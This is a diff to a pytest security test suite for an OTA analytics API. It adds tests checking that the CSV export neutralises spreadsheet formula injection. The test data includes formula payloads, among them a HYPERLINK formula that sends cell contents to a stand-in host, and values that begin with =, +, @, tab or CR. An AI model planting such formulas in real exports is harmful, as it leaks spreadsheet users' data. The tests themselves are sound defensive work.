@@ -4,11 +4,17 @@ webhook targets. Each row is one attempt and the answer it must get; docs/securi
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 from collections.abc import Iterator
 from typing import Any
 
 import pytest
 
+from ota_stream.storage.client import ClickHouse
+from ota_stream.storage.export import TEXT
+from ota_stream.storage.queries.event_rows import COLUMNS
 from tests.support.keys import SECURED
 from tests.support.probe import ACME_CHAT, ACME_SHOP, GLOBEX, Attempt, Probed, check, event, seeded, send
 from tests.support.processes import Worker, unique_name
@@ -16,6 +22,14 @@ from tests.support.processes import Worker, unique_name
 PROBE_ENV = {**SECURED, "RATE_LIMIT_READ_REQUESTS_PER_SECOND": "0"}
 ADOPTION = "/analytics/adoption?days=1"
 EXPORT = "/analytics/export?days=1&format=ndjson"
+# Texts a spreadsheet would run as formulas (finding 2), in events any app user can send, and two it would not.
+FORMULAS = {
+    "error_message": '=HYPERLINK("http://x/?"&A1,"click")', "release_notes": "+SUM(A1:A9)", "rollback_reason": "-2+3",
+    "cancellation_reason": "@SUM(1,1)", "session_id": "\t=1+1", "model": "\r=1+1", "error_code": "E-1",
+    "failure_stage": "'=already quoted",
+}  # fmt: skip
+RUNNABLE = [text for text in FORMULAS.values() if text[0] in "=+-@\t\r"]
+CSV_EXPORT = "/analytics/export?days=1&format=csv&app_id=shop"
 RULE = {"tenant_id": "acme", "metric": "failure_rate", "threshold": 20, "window_minutes": 10, "min_events": 5,
         "webhook_url": "https://93.184.215.14/hooks/ota"}  # fmt: skip
 
@@ -26,7 +40,7 @@ def probed(kafka: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Pro
     worker = Worker(directory, kafka, unique_name("ota-events"), unique_name("ota-group"), env=PROBE_ENV)
     worker.start()
     try:
-        yield seeded(worker)
+        yield seeded(worker, [event("acme", "shop", f"{ACME_SHOP}-formulas", **FORMULAS)])
     finally:
         worker.stop()
 
@@ -127,13 +141,17 @@ NARROWING = [  # keys narrowed to acme/mobile/shop: finding 1
     post("narrowed admin, a rule for another app", "/admin/alerts", "shop-admin", 403,
          {**RULE, "org_id": "mobile", "app_id": "chat"}),
 ]
+CSV = [  # finding 2: each runnable text in a CSV cell starts with an apostrophe
+    get("csv export, formulas", CSV_EXPORT, "acme-read", absent=tuple(f'"{text[:4]}' for text in RUNNABLE),
+        present=tuple(f'"\'{text[:4]}' for text in RUNNABLE)),
+]
 OPEN = [
     get("health", "/health", None),
     get("metrics", "/metrics", None, absent=(GLOBEX, ACME_SHOP)),
     get("openapi", "/openapi.json", None),
 ]
 # fmt: on
-ROWS = TENANT_IDS + PATHS + SCOPES + INJECTION + NARROWING + OPEN
+ROWS = TENANT_IDS + PATHS + SCOPES + INJECTION + NARROWING + CSV + OPEN
 
 
 @pytest.mark.parametrize("attempt", ROWS, ids=[row.name for row in ROWS])
@@ -181,3 +199,28 @@ def test_a_narrowed_admin_key_sees_and_deletes_only_rules_within_its_reach(probe
     delete = f"/admin/alerts/{tenant_wide['rule_id']}"
     check(probed, Attempt("delete a tenant rule", "DELETE", delete, "shop-admin", 403))
     check(probed, Attempt("delete it with a tenant key", "DELETE", delete, "acme-admin", 200))
+
+
+def test_csv_cells_never_start_a_formula_and_other_formats_keep_the_text(probed: Probed) -> None:
+    """A text that starts with = + - @ tab or CR gets an apostrophe in front in CSV, nothing else changes, and NDJSON
+    holds every value as sent."""
+    csv_answer = check(probed, get("csv", CSV_EXPORT, "acme-read"))
+    [csv_row] = [
+        r for r in csv.DictReader(io.StringIO(csv_answer.text)) if r["device_id"].endswith("formulas")
+    ]
+    ndjson = check(probed, get("ndjson", CSV_EXPORT.replace("csv", "ndjson"), "acme-read"))
+    [row] = [r for r in map(json.loads, ndjson.text.splitlines()) if r["device_id"].endswith("formulas")]
+    for name, value in FORMULAS.items():
+        assert row[name] == value, name
+        assert csv_row[name] == (f"'{value}" if value in RUNNABLE else value), name
+    assert csv_row["org_id"] == "mobile" and csv_row["current_version"] == "1.0.0"
+
+
+def test_every_text_column_of_the_raw_table_is_guarded_in_csv(ch: ClickHouse) -> None:
+    """The CSV guard covers each String column that an export reads, so that a new one cannot slip past it."""
+    types = dict(ch.query_rows("SELECT name, type FROM system.columns WHERE database = currentDatabase() "
+                               "AND table = 'ota_events_raw'"))  # fmt: skip
+    strings = {
+        name for name, column in COLUMNS if "String" in types[column] and not types[column].startswith("Map")
+    }
+    assert strings == TEXT
